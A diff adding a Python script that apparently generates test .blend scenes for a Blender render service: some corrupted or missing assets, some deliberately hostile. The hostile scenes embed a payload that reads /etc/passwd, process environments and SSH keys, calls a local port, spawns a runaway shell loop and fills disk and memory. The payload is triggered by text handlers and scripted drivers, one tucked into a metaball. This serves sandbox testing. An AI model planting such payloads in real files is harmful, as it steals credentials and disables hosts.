@@ -1,0 +1,187 @@
+"""Scenes that cannot or must not be rendered as they are: `bad_scenes.py OUT_DIR TRACES_DIR PORT`.
+
+Run with the Python of the environment `blender-5.0`. Every scene is tiny. The hostile ones carry Python that reads the
+host's files, calls PORT on the host, and leaves files in TRACES_DIR and beside itself; it must never run.
+"""
+
+import os
+import random
+import sys
+
+import bpy
+
+OUT, TRACES, PORT = os.path.abspath(sys.argv[1]), sys.argv[2], int(sys.argv[3])
+SEED = 20_26
+PAYLOAD = f"""
+import os, socket, subprocess
+print("HOSTILE PYTHON RAN")
+for place in ({TRACES!r}, "/tmp", os.getcwd(), os.path.expanduser("~")):
+    try:
+        open(os.path.join(place, "tatau-hostile-trace"), "w").write("here")
+    except OSError:
+        pass
+for file in ("/proc/1/environ", "/proc/self/environ", "/etc/passwd", os.path.expanduser("~/.ssh/id_ed25519")):
+    try:
+        print("HOSTILE PYTHON READ", open(file, "rb").read()[:200])
+    except OSError:
+        pass
+try:
+    socket.create_connection(("127.0.0.1", {PORT}), 2).sendall(b"hostile")
+except OSError:
+    pass
+subprocess.Popen(["/bin/sh", "-c", "while :; do sleep 60 & done"])
+with open("/tmp/tatau-hostile-trace-disk", "wb") as file:
+    while True:
+        file.write(bytes(1 << 24))
+        memory = globals().setdefault("memory", [])
+        memory.append(bytearray(1 << 26))
+"""
+HANDLER = """
+import bpy
+def ran(*_):
+    exec(bpy.data.texts["payload"].as_string())
+bpy.app.handlers.frame_change_pre.append(ran)
+bpy.app.handlers.load_post.append(ran)
+bpy.app.handlers.render_pre.append(ran)
+bpy.app.driver_namespace["ran"] = ran
+ran()
+"""
+
+
+def fresh():
+    """A scene that renders: a cube, a light, a camera, Cycles without denoising."""
+    bpy.ops.wm.read_factory_settings(use_empty=False)
+    scene = bpy.context.scene
+    scene.render.engine = "CYCLES"
+    scene.cycles.device = "CPU"
+    scene.cycles.samples = 4
+    scene.cycles.use_denoising = False
+    scene.cycles.use_adaptive_sampling = False
+    scene.render.resolution_x, scene.render.resolution_y, scene.render.resolution_percentage = 160, 96, 100
+    scene.frame_start, scene.frame_end = 1, 2
+    return scene
+
+
+def save(name, compress=False):
+    path = os.path.join(OUT, name)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    bpy.ops.wm.save_as_mainfile(filepath=path, compress=compress, relative_remap=False)
+    return path
+
+
+def textured(filepath):
+    material = bpy.data.objects["Cube"].active_material
+    material.use_nodes = True
+    node = material.node_tree.nodes.new("ShaderNodeTexImage")
+    image = bpy.data.images.new("bark", 4, 4)
+    image.source, image.filepath = "FILE", filepath
+    node.image = image
+    material.node_tree.links.new(node.outputs[0], material.node_tree.nodes["Principled BSDF"].inputs[0])
+
+
+def damaged(good):
+    with open(good, "rb") as stream:
+        data = bytearray(stream.read())
+    with open(os.path.join(OUT, "truncated.blend"), "wb") as stream:
+        stream.write(data[: len(data) * 3 // 5])
+    noise = random.Random(SEED)
+    middle = len(data) // 2
+    data[middle : middle + 40_000] = noise.randbytes(40_000)
+    with open(os.path.join(OUT, "random.blend"), "wb") as stream:
+        stream.write(data)
+
+
+def damaged_packed(packed):
+    with open(packed, "rb") as stream:
+        data = bytearray(stream.read())
+    data[len(data) // 2 : len(data) // 2 + 64] = random.Random(SEED).randbytes(64)
+    with open(os.path.join(OUT, "random-packed.blend"), "wb") as stream:
+        stream.write(data)
+    os.remove(packed)
+
+
+def libraries():
+    library_scene = fresh()
+    library_scene.name = "library"
+    bpy.data.objects["Cube"].name = "Prop"
+    library = save("library/props.blend")
+    fresh()
+    with bpy.data.libraries.load(library, link=True, relative=True) as (_, into):
+        into.objects = ["Prop"]
+    for item in into.objects:
+        bpy.context.scene.collection.objects.link(item)
+    bpy.data.libraries[0].filepath = "//library/props.blend"
+    save("no-library.blend")
+    os.remove(library)
+
+
+def hostile_text(name, registered):
+    fresh()
+    bpy.data.texts.new("payload").write(PAYLOAD)
+    text = bpy.data.texts.new("start.py")
+    text.write(HANDLER)
+    text.use_module = registered
+    save(name)
+
+
+def drive(block, path, expression, index=-1):
+    driver = block.driver_add(path, index).driver
+    driver.type, driver.expression = "SCRIPTED", expression
+
+
+def hostile_drivers():
+    fresh()
+    bpy.data.texts.new("payload").write(PAYLOAD)
+    call = "exec(__import__('bpy').data.texts['payload'].as_string()) or 1.0"
+    drive(bpy.data.objects["Cube"], "location", call, 0)
+    drive(bpy.data.objects["Camera"].data, "lens", "ran()")
+    drive(bpy.context.scene, "cycles.seed", call)
+    save("hostile-drivers.blend")
+    # A kind of block that few look at: Blender itself has to say that it would need Python.
+    fresh()
+    bpy.data.texts.new("payload").write(PAYLOAD)
+    ball = bpy.data.metaballs.new("ball")
+    ball.elements.new()
+    bpy.context.scene.collection.objects.link(bpy.data.objects.new("ball", ball))
+    drive(ball, "threshold", call)
+    save("hostile-metaball.blend")
+
+
+def osl():
+    scene = fresh()
+    scene.cycles.shading_system = True
+    save("osl.blend")
+
+
+def main():
+    os.makedirs(OUT, exist_ok=True)
+    bpy.context.preferences.filepaths.use_scripts_auto_execute = False
+    bpy.context.preferences.filepaths.save_version = 0
+    fresh()
+    good = save("good.blend")
+    damaged(good)
+    fresh()
+    damaged_packed(save("packed.blend", compress=True))
+    fresh()
+    textured("//textures/bark.png")
+    save("no-texture.blend")
+    fresh()
+    textured("/etc/passwd")
+    save("passwd-texture.blend")
+    libraries()
+    fresh().camera = None
+    save("no-camera.blend")
+    fresh().render.engine = "BLENDER_EEVEE"
+    save("eevee.blend")
+    fresh().cycles.use_denoising = True
+    save("denoise.blend")
+    fresh()
+    bpy.data.objects["Cube"].modifiers.new("cloth", "CLOTH")
+    save("cloth.blend")
+    hostile_text("hostile-registered.blend", True)
+    hostile_text("hostile-asleep.blend", False)
+    hostile_drivers()
+    osl()
+
+
+main()
